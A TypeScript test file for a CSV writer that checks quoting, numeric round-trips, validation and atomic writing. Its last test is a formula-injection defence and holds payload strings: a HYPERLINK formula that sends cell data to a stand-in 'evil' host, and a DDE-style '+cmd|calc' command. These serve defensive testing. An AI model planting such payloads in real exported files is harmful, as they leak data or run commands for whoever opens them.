import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { toCsv, writeCsvAtomic } from './write-csv.ts';
import { parseCsvText } from '../read/read-csv.ts';

test('quotes only what needs quoting and doubles inner quotes', () => {
  assert.equal(toCsv(['name', 'value'], [['a,b', 1.5], ['say "hi"', null], ['plain', -0]]),
    'name,value\n"a,b",1.5\n"say ""hi""",\nplain,0\n');
  assert.equal(toCsv(['x'], [['line\nbreak'], [' padded'], ['cr\r']]), 'x\n"line\nbreak"\n" padded"\n"cr\r"\n');
});

test('numbers are written so that reading gives the same double', () => {
  const values = [0.1 + 0.2, 1e21, 123456789.12345679, 5e-324, -2.5e-7];
  const csv = parseCsvText(toCsv(['date', 'v'], values.map((v, i) => [`2024-01-0${i + 1}`, v])), 'r.csv');
  assert.deepEqual(csv.rows.map((r) => Number(r[1])), values);
});

test('round trip through the reader keeps every cell', () => {
  const rows = [['2024-01-01', 'a "quoted", text', 3], ['2024-01-08', 'two\nlines', null]];
  const csv = parseCsvText(toCsv(['date', 'note', 'n'], rows), 'r.csv');
  assert.deepEqual(csv.header, ['date', 'note', 'n']);
  assert.deepEqual(csv.rows, [['2024-01-01', 'a "quoted", text', '3'], ['2024-01-08', 'two\nlines', '']]);
});

test('rejects rows of the wrong length and non-finite numbers', () => {
  assert.throws(() => toCsv(['a', 'b'], [[1]]), RangeError);
  assert.throws(() => toCsv(['a'], [[Number.NaN]]), /column "a" is NaN/);
  assert.throws(() => toCsv(['a'], [[Infinity]]), RangeError);
});

test('writeCsvAtomic writes the same text as toCsv', async () => {
  const path = join(mkdtempSync(join(tmpdir(), 'mixwise-csv-')), 'd.csv');
  await writeCsvAtomic(path, ['a'], [[1], [2]]);
  assert.equal(readFileSync(path, 'utf8'), 'a\n1\n2\n');
});

test('formula injection: text starting with = + - @ tab or CR gets a leading quote, numbers never; the header reads back as written', () => {
  const names = ['=HYPERLINK("http://evil/?x="&A1)_spend', '+cmd|calc!A0_spend', '@SUM(1+1)*cmd_spend', '-1+2_spend', '\tx_spend', '\ry_spend'];
  const csv = toCsv(['date', ...names], [['2024-01-01', -5, 1.5, 0, -2.5e-7, 3, 4], ['-5', '+1.5e3', '=1+1', '@x', '-', 'a=b', 'plain']]);
  const [header, numbers, texts] = csv.split('\n');
  assert.equal(header, `date,"'=HYPERLINK(""http://evil/?x=""&A1)_spend",'+cmd|calc!A0_spend,'@SUM(1+1)*cmd_spend,'-1+2_spend,'\tx_spend,"'\ry_spend"`);
  assert.equal(numbers, '2024-01-01,-5,1.5,0,-2.5e-7,3,4', 'numbers and dates stay as they are');
  assert.equal(texts, "-5,+1.5e3,'=1+1,'@x,'-,a=b,plain", 'text that is a number stays; formula-like text is neutralised');
  const back = parseCsvText(csv, 'x.csv');
  assert.deepEqual(back.header, ['date', ...names]);
});
